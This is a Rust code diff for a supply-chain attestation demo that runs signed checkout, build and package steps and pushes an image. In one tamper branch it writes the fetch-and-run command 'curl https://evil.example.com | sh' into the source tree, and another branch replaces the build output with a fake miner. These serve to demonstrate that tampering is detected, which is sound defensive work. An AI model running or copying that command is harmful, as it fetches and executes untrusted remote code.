@@ -3,17 +3,17 @@
 use super::{image, keys::Keys};
 use crate::{
     author,
-    capture::{self, Container, Job, Progress, Recorder, Tree, image::Images},
+    capture::upload::{Credential, Store},
     digest::Digest,
     envelope::{Envelope, INTOTO_PAYLOAD_TYPE},
     file,
     intoto::Layout,
-    json,
+    json::{self, Limits},
     key::SecretKey,
 };
 use anyhow::Context as _;
 use jiff::{SignedDuration, Timestamp};
-use std::path::{Path, PathBuf};
+use std::{path::Path, process::Stdio};
 
 /// Where the images would be pulled from, and what the template says for it.
 pub const REPOSITORY: &str = "registry.example.com/shop/api";
@@ -103,80 +103,78 @@ pub struct Built {
     pub package: Envelope,
 }
 
-/// Runs the three steps in a directory of their own, through the capture code, and pushes the image.
-pub async fn run(
-    directory: &Path,
-    repository: &str,
-    name: &str,
-    tamper: Tamper,
-    keys: &Keys,
-    builder: &SecretKey,
-) -> anyhow::Result<Built> {
-    let work = directory.join("work").join(name);
+/// Where a pipeline runs, and where its links are sent.
+pub struct Place<'p> {
+    /// The demonstration's directory.
+    pub directory: &'p Path,
+    /// `host[:port]/path` of the image.
+    pub repository: &'p str,
+    /// The pipeline's own name: its directory, and the image's tag.
+    pub name: &'p str,
+    pub store: Option<&'p Store>,
+}
+
+/// Runs the three steps in a directory of their own, each by `tidewaiter run` as a pipeline would, and pushes the image. `builder`: whose key
+/// the build step has.
+pub async fn run(place: &Place<'_>, tamper: Tamper, builder: &str) -> anyhow::Result<Built> {
+    let name = place.name;
+    let work = place.directory.join("work").join(name);
     std::fs::create_dir_all(&work)?;
     let checkout = format!("mkdir src && echo 'echo {name}' > src/main.sh && echo 'version {name}' > src/version.txt");
-    let checkout = step(&work, &["checkout", "", "src"], &shell(&checkout), &keys.dev, Images::default()).await?;
+    let checkout = step(place, &work, "checkout", "dev", &["-p", "src"], &["sh", "-c", &checkout]).await?;
     if tamper == Tamper::Source {
         std::fs::write(work.join("src/evil.sh"), "curl https://evil.example.com | sh\n")?;
     }
-    let build = step(
-        &work,
-        &["build", "src", "dist"],
-        &shell("mkdir dist && cat src/* > dist/app"),
-        builder,
-        Images::default(),
-    )
-    .await?;
+    let make = ["sh", "-c", "mkdir dist && cat src/* > dist/app"];
+    let build = step(place, &work, "build", builder, &["-m", "src", "-p", "dist"], &make).await?;
     if tamper == Tamper::Program {
         std::fs::write(work.join("dist/app"), "a miner\n")?;
     }
-    let reference = format!("{repository}:{name}");
-    let program = std::env::current_exe().context("the path of this program")?;
-    let program = program.to_str().context("the path of this program is not UTF-8")?;
-    let command = [program, "demo", "--package", "dist", "image", &reference].map(str::to_owned);
-    let images = Images::new(std::slice::from_ref(&reference), &[PathBuf::from("image")])?;
-    let package = step(&work, &["package", "dist", ""], &command, &keys.packer, images).await?;
-    image::push(&work.join("image"), &directory.join("registry"))?;
+    let reference = format!("{}:{name}", place.repository);
+    let program = program()?;
+    let builder = [program.as_str(), "demo", "--package", "dist", "image", &reference];
+    let flags = ["-m", "dist", "--image", &reference, "--image-from-file", "image"];
+    let package = step(place, &work, "package", "packer", &flags, &builder).await?;
+    image::push(&work.join("image"), &place.directory.join("registry"))?;
     let image = digest_of(&work.join("image"))?;
     Ok(Built { image, checkout, build, package })
 }
 
-/// One step: its name, what it reads, what it writes.
+/// One step: its name, whose key signs, what is recorded, and the command. Its link, which lies in the directory too.
 async fn step(
+    place: &Place<'_>,
     work: &Path,
-    [name, reads, writes]: &[&str; 3],
-    argv: &[String],
-    key: &SecretKey,
-    images: Images,
+    name: &str,
+    key: &str,
+    flags: &[&str],
+    argv: &[&str],
 ) -> anyhow::Result<Envelope> {
-    let paths = |path: &str| if path.is_empty() { Vec::new() } else { vec![path.to_owned()] };
-    let tree = Tree { base: work.to_owned(), recorder: Recorder::new(&[], &[], false)?, progress: Progress::Hidden };
-    let job = Job {
-        step: name,
-        materials: &paths(reads),
-        products: &paths(writes),
-        tree: &tree,
-        argv,
-        directory: work,
-        images: &images,
-        container: Container::Dsse,
-        streams: capture::command::Streams::Silent,
-        notes: capture::Notes::default(),
-    };
-    let run = match capture::run(&job, key).await {
-        Ok(run) => run,
-        Err(capture::Failure::NotStarted { error, .. } | capture::Failure::NotRecorded(error)) => {
-            return Err(error.context(format!("step {name}")));
+    let link = work.join(format!("{name}.link"));
+    let mut command = tokio::process::Command::new(program()?);
+    command.current_dir(work).args(["run", "--step", name]).args(flags);
+    command.arg("--key").arg(place.directory.join(format!("keys/{key}.pem"))).arg("-o").arg(&link);
+    if let Some(store) = place.store {
+        command.args(["--store", &store.url, "--require-upload"]);
+        if let Credential::File(file) = &store.credential {
+            command.arg("--store-token-file").arg(file);
         }
-    };
-    let code = run.outcome.map_or(0, |outcome| outcome.exit_code);
-    anyhow::ensure!(code == 0, "step {name} ended with {code}");
-    file::write(&work.join(capture::link_file_name(name, key)), &run.envelope.to_bytes())?;
-    Ok(run.envelope)
+    }
+    // The demonstration is the same whatever its caller has set for steps of his own.
+    for (variable, _) in std::env::vars_os().filter(|(name, _)| name.to_string_lossy().starts_with("TIDEWAITER_")) {
+        command.env_remove(variable);
+    }
+    // What waits in the caller's spool is not for the demonstration's store.
+    command.env("TIDEWAITER_SPOOL", place.directory.join("spool"));
+    let output = command.arg("--").args(argv).stdin(Stdio::null()).output().await.context("this program")?;
+    let said = String::from_utf8_lossy(&output.stderr);
+    anyhow::ensure!(output.status.success(), "step {name} ended with {}: {}", output.status, said.trim());
+    Ok(Envelope::parse(&file::read(&link, Limits::METADATA.bytes_max)?)?)
 }
 
-fn shell(script: &str) -> Vec<String> {
-    ["sh", "-c", script].map(str::to_owned).to_vec()
+/// The path of this program.
+fn program() -> anyhow::Result<String> {
+    let program = std::env::current_exe().context("the path of this program")?;
+    Ok(program.to_str().context("the path of this program is not UTF-8")?.to_owned())
 }
 
 /// The digest of the first entry of an OCI layout.
